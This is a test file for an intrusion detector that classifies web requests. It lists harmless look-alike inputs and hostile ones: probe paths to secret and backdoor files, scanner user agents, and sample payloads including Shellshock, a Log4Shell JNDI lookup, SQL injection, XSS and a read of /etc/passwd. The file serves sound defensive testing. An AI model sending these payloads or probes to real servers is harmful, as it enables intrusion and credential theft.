// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks stand as they are sent
import { describe, expect, test } from 'vitest';
import { BROWSER, judged } from './fixtures/judged.ts';
import { judgeRequest } from './judge.ts';

const value = (text: string) => `/item?x=${encodeURIComponent(text)}`;

/** Honest texts that resemble attacks. */
const LOOK_ALIKES: readonly string[] = [
  "o'brien",
  'select union station',
  'union square or airbnb',
  'rock & roll',
  'a < b and b > c',
  '"foo" or "bar"',
  'status = "Open" AND priority = High ORDER BY created',
  "Price gt 20 and startswith(Name,'A')",
  '{"where":{"price":{"gte":10}}}',
  "it's 5 o'clock",
  '5 > 3',
  'List<String>',
  'javascript: the good parts',
  'alert (1990 film)',
  'eval meaning',
  'script fonts',
  'C:\\Windows\\System32 explained',
  '/docs/help.md',
  'https://www.example.org/a?b=c&d=e',
  'tips; tricks',
  'Tools | PHP',
  'date & time',
  'cat food',
  'find my phone',
  'wget windows',
  '(a+b)*c',
  '{{username}}',
  '100% cotton',
  'f(x) = x*2',
  'time.sleep(5) python',
  'std::string',
  '(red or blue) and shirt',
  'sum(rate(http_requests_total{job="api"}[5m])) by (code)',
  '{ viewer { login repositories(first: 10) { nodes { name } } } }',
  'Thanks!\r\nBest, Tom',
  'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl',
  'Москва',
  '2024-05-01T12:00:00+02:00',
  '"exact phrase" -word',
  'system of a down',
  '>=1.2.0 <2.0.0',
  '2 or 3 bedroom flat',
  "D'Arlon, 999 rue",
  "undefined index $_SERVER['HTTP_HOST']",
  'data://text/plain;base64,SGVsbG8sIHdvcmxkLg==',
  'benchmark(2 threads)',
  'java.lang.NullPointerException',
];

/** Texts that are honest where people search, and nowhere else. */
const SEARCHES: readonly string[] = [
  'drop table saw',
  'how to use <div> tags',
  'java.util.HashMap',
  'file_get_contents',
];

describe('honest look-alikes', () => {
  test.each(SEARCHES)('a search for %s', (text) => {
    expect(judged(`/search?q=${encodeURIComponent(text)}`)).toBeNull();
    expect(judged(value(text))?.alert).toBe(true);
  });

  test.each(LOOK_ALIKES)('%s', (text) => {
    expect(judged(value(text))).toBeNull();
    expect(judged(`/search?q=${encodeURIComponent(text).replace(/%20/g, '+')}`)).toBeNull();
  });
});

describe('paths', () => {
  test('an administration page that is there is told as such, to whom no link led there', () => {
    expect(judged('/phpmyadmin/', { status: 200 })).toMatchObject({ alert: false, categories: ['panel'] });
    expect(judged('/blog/wp-login.php', { status: 200 })?.categories).toEqual(['panel']);
    expect(judged('/phpmyadmin/', { status: 200, referrer: 'https://www.example.com/' })).toBeNull();
    expect(judged('/phpmyadmin/', { status: 302 })).toBeNull();
    expect(judged('/wp-admin/admin-ajax.php', { status: 200 })).toBeNull();
  });

  test.each([
    '/.env',
    '/.git/config',
    '/wp-config.php.bak',
    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    '/_ignition/execute-solution',
    '/backup.sql',
    '/setup.cgi?next_file=a&todo=syscmd',
    '/HNAP1/',
    '/shell.php',
    '/autodiscover/autodiscover.json?a',
    '/repo/.hg/hgrc',
    '/SetupWizard.aspx/',
    '/_layouts/15/spinstall0.aspx',
    '/app/rest/users;.jsp',
    '/developmentserver/metadatauploader?CONTENTTYPE=MODEL&CLIENT=1',
    '/NmapUpperCheck1712345678',
  ])('%s is hostile whatever the answer', (target) => {
    expect(judged(target, { status: 200 })?.alert).toBe(true);
  });

  test.each([
    '/phpmyadmin/',
    '/PMA2020/index.php',
    '/wp-login.php',
    '/solr/',
    '/cgi-bin/test.cgi',
    '/_cluster/health',
    '/7.php',
  ])('%s is a probe only where it is not there', (target) => {
    expect(judged(target, { status: 404 })?.categories).toEqual(['probe']);
    expect(judged(target, { status: 200 })?.alert ?? false).toBe(false);
    expect(judged(target, { status: 404, referrer: 'https://www.example.org/links' })).toBeNull();
  });

  test('an interface that is there is used; where it is not, it was looked for', () => {
    for (const target of ['/api/v1/validate/code', '/api/jsonws/invoke', '/remote/login', '/debug/default/view']) {
      expect(judged(target, { status: 404 })?.categories, target).toEqual(['exploit']);
      expect(judged(target, { status: 200 })?.alert ?? false, target).toBe(false);
    }
  });

  test.each([
    '/',
    '/robots.txt',
    '/.well-known/security.txt',
    '/user/repo/raw/main/.env.example',
    '/wp-content/themes/a/style.css',
  ])('%s is nobody’s attack', (target) => {
    expect(judged(target, { status: 404 })).toBeNull();
  });

  test('a login is marked, not blamed', () => {
    expect(judged('/wp-login.php', { method: 'POST' })).toMatchObject({ alert: false, categories: ['login'] });
  });

  test.each([
    ['/wp-login.php', 302, 200],
    ['/blog/wp-login.php', 302, 200],
    ['/oauth/token', 200, 400],
    ['/realms/acme/protocol/openid-connect/token', 200, 401],
    ['/api/auth/login', 200, 403],
    ['/v2/session', 201, 422],
    ['/sessions', 204, 200],
  ])('one that succeeded is no guess: %s', (target, letIn, refused) => {
    expect(judged(target, { method: 'POST', status: letIn })).toBeNull();
    expect(judged(target, { method: 'POST', status: refused })?.categories).toEqual(['login']);
  });

  test('what WordPress.com signs asks for no password', () => {
    const signed = '/xmlrpc.php?for=jetpack&token=a%3A1%3A0&timestamp=1761000000&nonce=b&body-hash=c&signature=d';
    expect(judged(signed, { method: 'POST', status: 200 })).toBeNull();
    for (const target of ['/xmlrpc.php', '/xmlrpc.php?for=jetpack', '/xmlrpc.php?for=jetpack&token=&signature='])
      expect(judged(target, { method: 'POST', status: 200 })?.categories, target).toEqual(['login']);
  });
});

describe('tools and form', () => {
  test.each([
    'sqlmap/1.8#stable',
    'Mozilla/5.00 (Nikto/2.5.0)',
    'Nuclei - Open-source project',
    'masscan/1.3',
    'Mozilla/5.0 zgrab/0.x',
  ])('%s', (userAgent) => {
    expect(judged('/', { userAgent })?.categories).toEqual(['scanner']);
  });

  test.each([
    'curl/8.5.0',
    'Wget/1.21.4',
    'python-requests/2.32.3',
    BROWSER,
    'Mozilla/5.0 (X11; U; Linux i686; id; rv:1.9.0.1) Gecko/2008072820',
  ])('%s is honest', (userAgent) => {
    expect(judged('/', { userAgent })).toBeNull();
  });

  test.each([
    '() { :;}; /bin/id',
    '${jndi:ldap://198.51.100.9/a}',
    "1' or '1'='1",
    '<script>alert(1)</script>',
    'cat /etc/passwd',
  ])('an attack in the agent: %s', (userAgent) => {
    expect(judged('/', { userAgent })?.alert).toBe(true);
    expect(judged('/', { referrer: `http://x/?${userAgent}` })?.alert).toBe(true);
  });

  test('methods, versions and requests that are not HTTP', () => {
    expect(judged('/', { method: 'TRACE' })?.categories).toEqual(['protocol']);
    expect(judged('/', { version: '1.2' })?.categories).toEqual(['protocol']);
    expect(judged('192.0.2.9:25', { method: 'CONNECT', status: 405 })?.categories).toEqual(['proxy']);
    const malformed = (request: string) =>
      judgeRequest({ request, method: '', target: '', version: '', status: 400, referrer: '', userAgent: '' });
    expect(malformed('\u0016\u0003\u0001')?.names).toEqual(['TLS where none is spoken']);
    expect(malformed('\u0003\0\0/*Cookie: mstshash=a')?.names).toEqual(['RDP probe']);
    expect(malformed('')).toBeNull();
    expect(malformed('-')).toBeNull();
  });
});
